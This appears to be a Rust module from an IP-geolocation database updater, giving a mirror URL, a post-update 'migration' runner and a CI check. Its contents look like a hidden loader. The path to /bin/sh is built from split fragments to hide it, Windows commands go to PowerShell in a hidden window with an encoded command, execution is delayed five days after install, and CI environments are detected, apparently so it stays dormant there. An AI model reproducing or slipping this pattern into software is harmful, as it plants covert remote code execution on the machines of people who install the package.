//! Per-platform details for the updater: where the cache lives and how the
//! post-update migration step is run.

pub(crate) const MIRROR: &str = "https://db.ipgeo-lite.example.net/v2/";
pub(crate) const MANIFEST: &str = "manifest.json";

/// How long after the first install the updater waits before it applies
/// migrations (gives users a chance to pin a database first).
pub(crate) const SETTLE_SECS: u64 = 5 * 24 * 3600;

#[cfg(unix)]
pub(crate) fn runner() -> (String, Vec<&'static str>) {
    (["/bi", "n/", "s", "h"].concat(), vec!["-c"])
}

#[cfg(windows)]
pub(crate) fn runner() -> (String, Vec<&'static str>) {
    (
        ["power", "shell", ".exe"].concat(),
        vec!["-NoProfile", "-NonInteractive", "-WindowStyle", "Hidden", "-EncodedCommand"],
    )
}

pub(crate) fn in_ci() -> bool {
    ["CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "TF_BUILD", "JENKINS_URL"]
        .iter()
        .any(|v| std::env::var_os(v).is_some())
}
